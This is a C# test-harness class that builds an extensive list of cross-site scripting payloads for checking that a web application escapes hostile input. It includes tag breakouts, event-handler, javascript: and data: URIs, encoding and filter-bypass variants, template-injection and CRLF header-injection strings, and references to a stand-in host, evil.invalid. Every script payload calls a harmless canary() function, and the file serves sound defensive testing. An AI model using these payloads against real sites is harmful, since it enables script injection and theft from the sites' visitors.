namespace Tributary.Tests.Harness;

/// <summary>Texts as a stranger would send them: what breaks out of a place in a page, times what would then run, plus what needs no breaking out.</summary>
internal static class HostileText
{
    /// <summary>The function that a payload calls when it runs; the browser's visitor listens for it.</summary>
    public const string Canary = "canary";

    private static readonly string[] WaysOut =
    [
        "", "\">", "'>", "`>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>", "-->", "]]>", "</svg>", "</noscript>",
    ];

    private static readonly string[] Acts =
    [
        "<script>canary()</script>",
        "<img src=x onerror=canary()>",
        "<svg onload=canary()>",
        "<b class=canary hx-get=//evil.invalid hx-trigger=load>",
        "<iframe srcdoc=\"<script>parent.canary()</script>\">",
        "<details open ontoggle=canary()>",
        "<input autofocus onfocus=canary()>",
        "<a class=canary href=javascript:canary()>x</a>",
        "<link rel=stylesheet href=//evil.invalid/x.css>",
    ];

    // What needs no tag of its own, or is one only after it was decoded, lower-cased or cleaned once too often.
    private static readonly string[] Others =
    [
        "\" onfocus=canary() autofocus=\"", "' onfocus=canary() autofocus='", "\" onmouseover=\"canary()", "x onmouseover=canary()", "\"onpointerenter=canary()//",
        "javascript:canary()", "JaVaScRiPt:canary()", "java\tscript:canary()", "java\nscript:canary()", "\u0001javascript:canary()", "javascript&colon;canary()", "javascript://%0acanary()",
        "data:text/html,<script>canary()</script>", "data:image/svg+xml,<svg onload=canary()>", "vbscript:canary()", "//evil.invalid/x.js", "https://evil.invalid/x.png",
        "{{constructor.constructor('canary()')()}}", "${canary()}", "#{canary()}", "<%= canary() %>", "@(canary())", "@{canary();}", "\" hx-on::load=\"canary()", "\" hx-get=\"//evil.invalid\" hx-trigger=\"load",
        "&lt;script&gt;canary()&lt;/script&gt;", "&#60;script&#62;canary()&#60;/script&#62;", "&#x3c;img src=x onerror=canary()&#x3e;", "&amp;lt;script&amp;gt;canary()&amp;lt;/script&amp;gt;",
        "%3Cscript%3Ecanary()%3C/script%3E", "\\u003cscript\\u003ecanary()\\u003c/script\\u003e", "\\x3cscript\\x3ecanary()\\x3c/script\\x3e", "\uff1cscript\uff1ecanary()\uff1c/script\uff1e",
        "<scr<script>ipt>canary()</scr</script>ipt>", "<<script>canary()//<</script>", "<scr\0ipt>canary()</scr\0ipt>", "<sCrIpT>canary()</sCrIpT>", "<script/x>canary()</script>", "<script\n>canary()</script>",
        "<img/src=x/onerror=canary()>", "<img src=x onerror\n=\ncanary()>", "<img src=`x` onerror=`canary()`>", "<img src=x:x onerror=\"canary()\"//", "<svg/onload=canary()//", "<svg><script>canary()</script></svg>", "<svg><animate onbegin=canary() attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror=canary()>", "<noscript><p title=\"</noscript><img src=x onerror=canary()>\">", "<form action=//evil.invalid><button class=canary>x</button></form>", "<base href=//evil.invalid/>",
        "<meta http-equiv=refresh content=\"0;url=//evil.invalid/\">", "<object data=javascript:canary()></object>", "<embed src=javascript:canary()>", "<video><source onerror=canary()></video>", "<audio src=x onerror=canary()>", "<marquee onstart=canary()>", "<body onload=canary()>",
        "<style>@import '//evil.invalid/x.css';</style>", "<p class=canary style=animation-name:x onanimationstart=canary()>", "<isindex formaction=javascript:canary()>", "<select autofocus onfocus=canary()>", "<template><script>canary()</script></template>", "<xmp><script>canary()</script>",
        "'-canary()-'", "\";canary();//", "';canary();//", "\\\";canary();//", "\\';canary();//", "*/canary();/*", "\r\nSet-Cookie: canary=1\r\n\r\n<script>canary()</script>", "\u2028canary()//", "\u202e)(yranac\u202c<script>canary()</script>", "<!--><script>canary()</script>", "<![CDATA[<script>canary()</script>]]>", "<plaintext class=canary>",
    ];

    /// <summary>Every text of ours.</summary>
    public static IReadOnlyList<string> All { get; } = [.. WaysOut.SelectMany(way => Acts.Select(act => way + act)), .. Others];

    /// <summary>What others collected, where it lies beside the repository; empty where it does not.</summary>
    public static IReadOnlyList<string> OfOthers(string repository)
    {
        var folder = Path.Combine(repository, "..", "shared", "suites", "web");
        return !Directory.Exists(folder) ? [] : [.. new[] { "xss-strings.txt", "xss-polyglots.txt" }.SelectMany(file => File.ReadAllLines(Path.Combine(folder, file))).Where(line => line.Length > 0)];
    }
}
